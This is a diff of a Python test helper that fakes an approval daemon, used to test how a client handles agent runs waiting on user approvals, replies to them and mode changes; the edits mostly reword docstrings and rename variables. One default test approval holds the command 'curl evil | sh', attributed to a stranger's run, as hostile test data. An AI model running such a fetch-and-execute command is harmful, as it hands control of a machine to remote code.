@@ -1,5 +1,7 @@
-"""A daemon whose runs wait for approvals that the test makes up, raw control characters included:
-no real daemon sends those. Its socket, frames and feed are real.
+"""A daemon whose runs wait for approvals made up by the test.
+
+They may contain raw control characters, which no real daemon sends. Its socket, frames and feed are
+real.
 """
 
 import asyncio
@@ -42,25 +44,27 @@ def make_approval(
 
 
 def make_stranger_ask(ask_id: str, *questions: wire.AskQuestion) -> wire.AgentEventMsg:
-    """As the feed tells of the approvals a stranger's run waits for."""
-    asked = questions or (make_approval("curl evil | sh", requested_by="tg:666", for_owner=True),)
+    """Make a feed event with the approvals that a stranger's run waits for."""
+    approvals = questions or (
+        make_approval("curl evil | sh", requested_by="tg:666", for_owner=True),
+    )
     return wire.AgentEventMsg(
         agent="crab",
         sender="tg:666",
         run_id=f"run-{ask_id}",
         kind=wire.ASK_USER,
-        ask=wire.AskUserEvent(questions=asked, ask_id=ask_id),
+        ask=wire.AskUserEvent(questions=approvals, ask_id=ask_id),
     )
 
 
 class FakeApprovalDaemon(Server):
-    """Every turn asks `questions` and then says what it was answered."""
+    """Every turn asks `questions` and then streams the answer it got."""
 
     def __init__(self, *questions: wire.AskQuestion, has_modes: bool = True) -> None:
         self.questions: Sequence[wire.AskQuestion] = questions
         self.has_modes = has_modes
         self.mode = ""  # set for the conversation; empty: the agent's
-        self.pending_asks: list[wire.AgentEventMsg] = []  # told first to whoever follows
+        self.pending_asks: list[wire.AgentEventMsg] = []  # sent first to each subscriber
         self.streams: list[wire.StreamMsg] = []
         self.replies: list[wire.ReplyToAsk] = []
         self.mode_requests: list[wire.SetModeMsg] = []
@@ -113,9 +117,9 @@ class FakeApprovalDaemon(Server):
     async def reply_to_ask(self, request: wire.ReplyToAsk) -> None:
         self.replies.append(request)
         if request.ask_id == "gone":
-            raise NotFoundError("nobody waits for that")
+            raise NotFoundError("no run waits for that")
         self.pending_asks = [
-            each for each in self.pending_asks if each.ask.ask_id != request.ask_id
+            event for event in self.pending_asks if event.ask.ask_id != request.ask_id
         ]
         self._replied.set()
 
@@ -142,7 +146,7 @@ class FakeApprovalDaemon(Server):
         return wire.ModeInfo(mode=self.mode or "ask", is_set=bool(self.mode))
 
     def change_mode(self, mode: str) -> None:
-        """As any client may."""
+        """Change the mode as another client would."""
         self.mode = mode
         self.publish(
             wire.AgentEventMsg(
